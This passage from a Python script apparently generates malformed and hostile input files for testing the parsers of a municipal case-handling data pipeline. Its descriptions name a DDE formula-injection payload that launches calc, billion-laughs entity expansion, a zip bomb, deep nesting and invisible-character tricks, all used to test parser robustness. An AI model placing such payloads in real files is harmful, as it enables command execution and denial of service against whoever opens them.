    "power-list--corrupt-sheet-xml.xlsx": "a sheet part that stops mid-tag",
    "power-list--no-workbook-part.xlsx": "a package without xl/workbook.xml",
    "power-list--formula-injection.xlsx":
        "=HYPERLINK, =cmd|' /C calc'!A0, @SUM … as formula cells without cached values",
    "power-list--unknown-kind.xlsx": "unknown codes: 权力类型 行政魔法 and 99, 承接方式 传送",
    "power-list--duplicate-headers.xlsx": "two 事项名称 columns",
    "power-list--hidden-sheet-only.xlsx": "the only list is on a hidden sheet; the visible sheet is blank",
    "power-list--wrong-types.xlsx":
        "wrong types: a boolean code, a date and a negative number as 权力类型, a float mode",
    "power-list--duplicate-codes.xlsx": "the same code twice, once in full-width digits (１００１)",
    "power-list--no-header.xlsx": "a workbook with no recognisable header",
    "power-list--empty-code.xlsx": "an item without 事项编码 in a sheet that has the column",
    "power-list--rows-backwards.xlsx":
        "data rows numbered 3, 6, 4, 4 in the sheet XML (row numbers going backwards; read-only openpyxl drops them)",
    "power-list--strict-ooxml.xlsx":
        "a Strict Open XML workbook (purl.oclc.org namespaces), which openpyxl reads as empty",
    "power-list--encrypted.xlsx": "an OLE2 file with EncryptionInfo and EncryptedPackage: a password-protected .xlsx",
    "power-list--invisible-codes.xlsx": "item codes holding a zero-width space, a right-to-left override and a BOM",
    "catalog-organisation--unknown-district.xlsx": "organisation.xlsx: a street in district 999999 (unknown code)",
    "catalog-organisation--missing-sheet.xlsx": "organisation.xlsx without its 部门 sheet",
    "catalog-organisation--wrong-types.xlsx": "organisation.xlsx: 编制人数 as text (三十人) and as a date",
    "catalog-taxonomy--bad-scope-and-cycle.xlsx":
        "taxonomy.xlsx: an unknown 吹哨范围 and two categories each other's parent",
    "catalog-calendar--dates-as-text.xlsx":
        "calendar_overrides.xlsx: dates as Chinese and US text, 2026-02-30, an unknown 类型",
    "catalog-power-list--truncated.xlsx": "the shipped power_list.xlsx cut at 20,000 bytes",
    "delegation--unknown-street-and-mode.xlsx": "unknown street names and codes, an unknown 承接方式",
    "delegation--zip-bomb-declared.xlsx": "a delegation workbook declaring 2 GiB per part",
    "issues--bom-mixed-encoding.csv": "UTF-8 with BOM, then a GBK-encoded line (mixed encodings)",
    "issues--gb18030.csv": "a whole file in GB18030, read as UTF-8",
    "issues--empty.csv": "an empty file",
    "issues--nul-bytes.csv": "NUL bytes inside cells",
    "issues--duplicate-headers.csv": "问题分类 and 分类编码 (the same field) in one header",
    "issues--dates-as-text.csv": "受理时间 as 2026年7月1日上午, 下周一 and an Excel serial number",
    "issues--deeply-nested.jsonl": "lines nested 100,000 and 20,000 levels deep",
    "issues--huge-number.jsonl": "a 10,000-digit integer",
    "issues--deeply-nested.json": "a .json array of issues nested 50,000 levels deep",
    "issues--huge-line.jsonl": "a 300 KB line (description of 100,000 characters)",
    "issues--wrong-types.jsonl":
        "a list id, a number time, a bool category, maybe as a bool, -1 repeats, an array, a string, NaN",
    "issues--unknown-codes.jsonl": "a category and a location that the catalog does not know",
    "issues--binary-garbage.jsonl": "1 KiB of random bytes",
    "issues--rich-markup.jsonl": "ids and text that the terminal library would read as markup ([/], [bold]…)",
    "issues--truncated.xlsx": "an issue workbook missing its last 300 bytes",
    "issues--entities.xlsx": "billion laughs in an issue workbook's sheet",
    "issues--hidden-sheet-only.xlsx": "the issues on a hidden sheet, a cover sheet visible",
    "issues--csv-renamed.xlsx": "a CSV renamed .xlsx",
    "issues--formula-injection.csv": "formula-injection ids and descriptions (legal text): outputs must be inert",
    "issues--formula-injection.jsonl": "the same in JSONL, plus a formula as category and location",
    "issues--lone-surrogate.jsonl": "lone surrogates (\\udfff, \\ud800, \\udc80) in an id, a description and a key",
    "issues--line-separators.jsonl":
        "U+2028, U+2029, U+0085, VT, FF and U+001C inside JSON strings, a CRLF line end: three valid issues",
    "issues--duplicate-keys.jsonl":
        "emergency given twice (true, then false); a description that is an object (with a key twice)",
    "issues--time-overflow.jsonl":
        "received_at 9999-12-31T23:59:59-12:00, 0001-01-01T00:00 and an emergency on 9999-12-30; one valid issue",
    "issues--invisible-ids.jsonl":
        "ids with a zero-width space and a right-to-left override, a category with a word joiner, a full-width id",
    "issues--formula-after-nfkc.jsonl":
        "ids and categories that are formulas after NFKC (＝ ＋ － ＠ ﹦) or after a zero-width character or BOM",
    "issues--formula-after-nfkc.csv": "the same as CSV",
    "issues--rows-backwards.xlsx": "an issue workbook whose data rows are numbered 3, 7, 5, 5 in the sheet XML",
    "issues--encrypted.xlsx": "a password-protected (encrypted) workbook",
    "issues--strict-ooxml.xlsx": "an issue workbook saved as Strict Open XML",
    "issues--sparse.xlsx": "four valid issues, each row also holding a note in column XFD",
    "rules--invalid-toml.toml": "a TOML syntax error (unclosed [[tables]])",
    "rules--wrong-types.toml":
        "BOM, then wrong types: hit_policy = 5, inputs a string, a row that is a string, unknown keys",
    "rules--deeply-nested.toml": "an array nested 50,000 levels deep",
    "rules--binary-garbage.toml": "512 random bytes",
    "rules--missing-tables.toml": "a routing.toml without tables: the router needs them",
    "whistles--formula-injection.csv":
        "formula-injection case ids and units (legal text): the 晒单 report must be inert",
    "whistles--bad-values.csv": "bad 受理时间, 得分, 延期次数, 重办次数, 街道自有权力, and a duplicate 案件编号",
    "whistles--duplicate-headers.csv": "街道 and 街道编码 (the same field) in one header",
    "whistles--mixed-encoding.csv": "a UTF-8 header, then a GBK line",
    "whistles--time-overflow.csv": "受理时间 9999-12-31T23:59:59-12:00 and 响应时限 0001-01-01T00:00",
    "whistles--invisible-codes.csv":
        "a case id with a zero-width space and a street code with a right-to-left override",
    "whistles--truncated.xlsx": "a whistle workbook missing its last 200 bytes",
    "whistles--dates-as-text.xlsx": "受理时间 七月一日 and 响应时限 下周 as text",
    "vetoes--bad-dates-and-blanks.csv": "a month 13, an empty 对象, an empty 日期",
}


def readme(files: dict[str, bytes]) -> str:
    lines = ["# Hostile inputs", "",
             "Written by `tools/make_hostile.py`; `tests/test_hostile.py` says what each must produce.",
             "A 10 MB cell is written at test time (too large to commit).", "",
             "| file | bytes | what it tests |", "|---|---|---|"]
    lines += [f"| {name} | {len(data)} | {WHAT[name]} |" for name, data in sorted(files.items())]
    return "\n".join(lines) + "\n"


def main(argv: list[str]) -> int:
    target = Path(argv[1]) if len(argv) > 1 else ROOT / "tests" / "data" / "hostile"
    if target.exists():
        for old in target.iterdir():
            if old.is_file():
                old.unlink()
            elif old.is_dir():
                shutil.rmtree(old)
    target.mkdir(parents=True, exist_ok=True)
    files = build()
    for name, data in sorted(files.items()):
        (target / name).write_bytes(data)
    (target / "README.md").write_text(readme(files), encoding="utf-8")
    print(f"wrote {len(files)} files to {target} ({sum(map(len, files.values())) // 1024} KiB)")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
